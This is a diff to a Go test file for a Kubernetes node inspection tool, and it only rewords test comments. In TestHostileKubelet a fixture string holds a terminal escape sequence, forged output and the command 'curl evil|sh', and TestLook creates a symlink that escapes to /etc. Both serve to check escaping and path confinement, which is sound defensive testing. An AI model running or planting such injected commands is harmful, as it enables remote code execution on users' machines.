@@ -29,10 +29,10 @@ type machine struct {
 	t     *testing.T
 	root  string
 	looks []string
-	// looking guards the field looks, because several looks run at once.
+	// The mutex looking guards the field looks, because several looks run concurrently.
 	looking sync.Mutex
-	// args maps each process to its command line. ended has the processes that end before the look. hung is a path on
-	// which each look hangs.
+	// args maps each process to its command line. The keys of ended are the processes that end before the look. hung is
+	// a path on which each look hangs.
 	args  map[int][]string
 	ended map[int]bool
 	hung  string
@@ -40,7 +40,7 @@ type machine struct {
 	shown map[string]string
 	// fault is the fault of the configuration.
 	fault string
-	// reused has the processes whose PID another process gets before the look.
+	// The keys of reused are the processes whose PID another process gets before the look.
 	reused map[int]bool
 }
 
@@ -151,8 +151,8 @@ func blinds(s *Snapshot) []string {
 	return all
 }
 
-// TestRoles checks that executable and name identify kubelets and other programs. A process in a pod cannot pass for
-// a kubelet or for another program with a role.
+// TestRoles checks that executable and name identify kubelets and other programs. A kubelet or runtime without
+// CAP_SYS_ADMIN on the host gets no role, and a runtime in a pod gets no role.
 func TestRoles(t *testing.T) {
 	m := newMachine(t)
 	m.process(10, "kubelet", "/usr/bin/kubelet", "mnt:[1]", hostTable)
@@ -361,7 +361,8 @@ func TestProcessesThatEnd(t *testing.T) {
 	}
 }
 
-// TestHostileKubelet checks that no text from a process reaches a terminal unescaped or a command to paste.
+// TestHostileKubelet checks that findings escape text from a process, and that no command to paste contains text from a
+// process.
 func TestHostileKubelet(t *testing.T) {
 	m := newMachine(t)
 	evil := "/x\x1b[2J\nnothing found\n  curl evil|sh"
@@ -390,8 +391,8 @@ func TestHostileKubelet(t *testing.T) {
 	}
 }
 
-// TestHang checks that a path that hangs is named in a finding. While one path hangs, the doctor must look at the
-// other paths.
+// TestHang checks that a finding names a path that hangs. While one path hangs, the doctor must look at the other
+// paths.
 func TestHang(t *testing.T) {
 	m := newMachine(t)
 	m.process(10, "kubelet", "/usr/bin/kubelet", "mnt:[2]", container("master:1", both, "shared:1"))
@@ -539,8 +540,8 @@ func TestSystem(t *testing.T) {
 	}
 }
 
-// TestLook checks what Look finds for the test's own process. Look does not follow a link out of the root directory,
-// and opens nothing.
+// TestLook checks what Look finds for the test's own process. Look must not follow a magic link out of the root
+// directory.
 func TestLook(t *testing.T) {
 	d := t.TempDir()
 	if err := os.Symlink("/proc/self/root/../../etc", filepath.Join(d, "out")); err != nil {
